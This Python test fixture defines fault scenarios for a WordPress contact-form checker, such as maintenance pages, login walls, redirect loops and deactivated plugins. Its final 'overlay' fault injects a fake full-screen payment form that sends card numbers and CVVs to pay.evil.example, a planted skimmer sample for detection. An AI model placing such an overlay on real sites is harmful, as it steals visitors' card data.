"""Faults of the page: it does not come, or the form is not in it."""

from __future__ import annotations

from collections.abc import Iterator

from tests.planted.forms.fault import BEFORE, fault
from tests.planted.forms.ground import Ground

CF7, FLUENT, GRAVITY, NINJA, FORMIDABLE, WPFORMS = (
    "contact-form-7",
    "fluentform",
    "gravityforms",
    "ninja-forms",
    "formidable",
    "wpforms",
)
_HERE = "if ( is_page() )"


def _instead(ground: Ground, plugin: str, code: str) -> Iterator[str]:
    with ground.running(f"add_action( 'template_redirect', function () {{ {_HERE} {{ {code} }} }}, 1 );"):
        yield ground.pages[plugin]


@fault("page is unpublished", CF7, "form.page.gone", stages=BEFORE)
def unpublished(ground: Ground) -> Iterator[str]:
    yield ground.page(ground.shown(CF7), post_status="private")


@fault("page moved, its address forgotten", WPFORMS, "form.page.gone", stages=BEFORE)
def moved(ground: Ground) -> Iterator[str]:
    yield f"{ground.site.url}/where-the-form-was/"


@fault("maintenance plugin left on, 503", CF7, "form.page.maintenance", stages=BEFORE)
def maintenance(ground: Ground) -> Iterator[str]:
    yield from _instead(
        ground,
        CF7,
        "status_header( 503 ); header( 'Retry-After: 3600' ); exit( '<title>Maintenance</title><h1>Soon</h1>' );",
    )


@fault("coming-soon page that answers 200", FLUENT, "form.page.maintenance", stages=BEFORE)
def coming_soon(ground: Ground) -> Iterator[str]:
    yield from _instead(
        ground, FLUENT, "exit( '<html><title>Coming soon</title><body><h1>We are nearly there</h1></body></html>' );"
    )


@fault(".maintenance that an update left behind", GRAVITY, "form.page.maintenance", stages=BEFORE)
def left_behind(ground: Ground) -> Iterator[str]:
    file = ground.site.put("../.maintenance", "<?php $upgrading = time();")
    try:
        yield ground.pages[GRAVITY]
    finally:
        file.unlink()


@fault("Basic auth of a staging copy", CF7, "form.page.password_asked", stages=BEFORE)
def basic_auth(ground: Ground) -> Iterator[str]:
    yield from _instead(
        ground, CF7, "header( 'WWW-Authenticate: Basic realm=staging' ); status_header( 401 ); exit( 'no' );"
    )


@fault("page with a password of its own", WPFORMS, "form.page.password_asked", stages=BEFORE)
def post_password(ground: Ground) -> Iterator[str]:
    yield ground.page(ground.shown(WPFORMS), post_password="guess-7")


@fault("membership plugin sends visitors to the log-in", FORMIDABLE, "form.page.password_asked", stages=BEFORE)
def login_wall(ground: Ground) -> Iterator[str]:
    yield from _instead(ground, FORMIDABLE, "wp_safe_redirect( wp_login_url() ); exit;")


@fault("redirects in a circle", CF7, "form.page.redirects", stages=BEFORE)
def circle(ground: Ground) -> Iterator[str]:
    yield from _instead(ground, CF7, "wp_redirect( home_url( add_query_arg( array() ) ) ); exit;")


@fault("theme breaks before the page", FLUENT, "form.page.server_error", stages=BEFORE)
def broken_theme(ground: Ground) -> Iterator[str]:
    yield from _instead(ground, FLUENT, "a_function_that_is_gone();")


@fault("page breaks off in the middle", FLUENT, "form.page.broken_off", stages=("pressed", "arrived"))
def broken_footer(ground: Ground) -> Iterator[str]:
    code = (
        "add_action( 'wp_footer', function () { while ( ob_get_level() ) { ob_end_flush(); } flush(); "
        "a_function_that_is_gone(); }, 1 );"
    )
    with ground.running(code):
        yield ground.pages[FLUENT]


def _off(ground: Ground, plugin: str) -> Iterator[str]:
    ground.site.wp("plugin", "deactivate", plugin, "--skip-plugins")
    try:
        yield ground.pages[plugin]
    finally:
        ground.site.wp("plugin", "activate", plugin)


@fault("Contact Form 7 deactivated", CF7, "form.page.shortcode_shown", stages=BEFORE)
def cf7_off(ground: Ground) -> Iterator[str]:
    yield from _off(ground, CF7)


@fault("WPForms deactivated", WPFORMS, "form.page.shortcode_shown", stages=BEFORE)
def wpforms_off(ground: Ground) -> Iterator[str]:
    yield from _off(ground, WPFORMS)


@fault("Gravity Forms deactivated", GRAVITY, "form.page.shortcode_shown", stages=BEFORE)
def gravity_off(ground: Ground) -> Iterator[str]:
    yield from _off(ground, GRAVITY)


@fault("Contact Form 7: form deleted, its shortcode left", CF7, "form.page.form_deleted", stages=BEFORE)
def cf7_deleted(ground: Ground) -> Iterator[str]:
    yield ground.page(ground.shown(CF7, "98765"))


@fault("Gravity Forms: form deleted, its shortcode left", GRAVITY, "form.page.form_deleted", stages=BEFORE)
def gravity_deleted(ground: Ground) -> Iterator[str]:
    yield ground.page(ground.shown(GRAVITY, "98765"))


@fault("Formidable: form deleted, its shortcode left", FORMIDABLE, "form.page.form_deleted", stages=BEFORE)
def formidable_deleted(ground: Ground) -> Iterator[str]:
    yield ground.page(ground.shown(FORMIDABLE, "98765"))


@fault("an editor took the form out of the page", FLUENT, "form.page.form_missing", stages=BEFORE)
def taken_out(ground: Ground) -> Iterator[str]:
    yield ground.page("<p>Write to us.</p>")


@fault("a sanitizer strips the hidden fields", CF7, "form.page.hidden_missing", stages=("arrived", "validated"))
def stripped(ground: Ground) -> Iterator[str]:
    with ground.rewriting(r'/<input type="hidden" name="_wpcf7_unit_tag"[^>]*>/', ""):
        yield ground.pages[CF7]


@fault(
    "Gravity Forms: hidden fields stripped", GRAVITY, "form.page.hidden_missing", stages=("shown", "pressed", "arrived")
)
def gravity_stripped(ground: Ground) -> Iterator[str]:
    with ground.rewriting(r"/<input type='hidden' class='gform_hidden' name='(is_submit_|gform_submit')[^>]*>/", ""):
        yield ground.pages[GRAVITY]


@fault(
    "a form laid over the page that asks for a card",
    WPFORMS,
    "form.page.stranger_form",
    "form.browser.foreign_overlay",
    stages=("shown", "pressed", ""),
)
def overlay(ground: Ground) -> Iterator[str]:
    fake = (
        '<form action="https://pay.evil.example/x" method="post" '
        'style="position:fixed;inset:0;background:#fff;z-index:9">'
    )
    fake += '<input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Pay</button></form>'
    with ground.running(f"add_action( 'wp_footer', function () {{ echo '{fake}'; }} );"):
        yield ground.pages[WPFORMS]
